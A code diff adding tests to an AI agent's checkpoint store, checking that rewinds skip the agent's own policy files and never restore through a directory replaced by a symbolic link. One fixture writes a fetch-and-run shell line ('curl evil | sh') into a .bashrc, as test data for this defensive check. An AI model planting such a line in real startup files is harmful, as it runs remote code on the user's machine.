@@ -1,8 +1,19 @@
 // The checkpoint store on real files: a turn's changes (created, modified, deleted) with
 // their contents, outside edits taken in before a turn without being recorded, the size
 // bound, a rewind plan that notices later outside edits, and a fork that keeps only the
-// checkpoints before its point.
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, utimesSync, writeFileSync } from "node:fs";
+// checkpoints before its point; the kernel's own files never rewound, and no restore
+// through a symbolic link planted since.
+import {
+  appendFileSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  utimesSync,
+  writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
@@ -108,5 +119,64 @@ describe("CheckpointStore", () => {
     write("a.txt", "a2\n", 3);
     applyRewind(forked, plan);
     expect(readFileSync(join(root, "a.txt"), "utf8")).toBe("a1\n");
+  });
+
+  it("leaves the kernel's own files out: a rewind never revokes an always-approval", () => {
+    const cp = new CheckpointStore(store, root);
+    cp.scan();
+    // During a turn the user answers "always" (the kernel writes .agent/) and the agent edits a file.
+    mkdirSync(join(root, ".agent"));
+    write(".agent/policy.auto.hcl", 'rule "bash" { effect = "allow" }\n');
+    write("agent.hcl", "# edited by the user meanwhile\n");
+    write("a.txt", "a2\n");
+    const changes = cp.scan();
+    expect(changes.map((c) => c.path)).toEqual(["a.txt"]);
+    cp.record(10, "T1", changes);
+    // A checkpoint written before this rule may still name them: they are skipped too.
+    appendFileSync(
+      join(store, "checkpoints.jsonl"),
+      `${JSON.stringify({ seq: 11, turnId: "T2", at: "", changes: [{ path: ".agent/policy.auto.hcl", before: null, after: "x" }] })}\n`,
+    );
+    const plan = planRewind(cp, 9);
+    expect(plan.map((s) => s.path)).toEqual(["a.txt"]);
+    applyRewind(cp, plan);
+    expect(readFileSync(join(root, "a.txt"), "utf8")).toBe("a1\n");
+    expect(readFileSync(join(root, ".agent/policy.auto.hcl"), "utf8")).toContain("allow");
+    expect(existsSync(join(root, "agent.hcl"))).toBe(true);
+  });
+
+  it("restores nothing through a directory that has become a symbolic link", () => {
+    const outside = mkdtempSync(join(tmpdir(), "ph-cp-outside-"));
+    try {
+      const cp = new CheckpointStore(store, root);
+      cp.scan();
+      mkdirSync(join(root, "x"));
+      write("x/.bashrc", "curl evil | sh\n");
+      cp.record(10, "T1", cp.scan());
+      // The next turn swaps the directory for a link to a directory outside the project.
+      rmSync(join(root, "x"), { recursive: true });
+      symlinkSync(outside, join(root, "x"));
+      cp.record(20, "T2", cp.scan());
+      const plan = planRewind(cp, 15);
+      expect(plan).toEqual([
+        expect.objectContaining({
+          path: "x/.bashrc",
+          action: "unrestorable",
+          reason: expect.stringContaining("x is no longer a directory"),
+        }),
+      ]);
+      // Even a plan made before the swap writes nothing through it.
+      applyRewind(cp, [
+        {
+          path: "x/.bashrc",
+          action: "create",
+          target: cp.checkpoints()[0]!.changes[0]!.after,
+          changedSince: false,
+        },
+      ]);
+      expect(existsSync(join(outside, ".bashrc"))).toBe(false);
+    } finally {
+      rmSync(outside, { recursive: true, force: true });
+    }
   });
 });
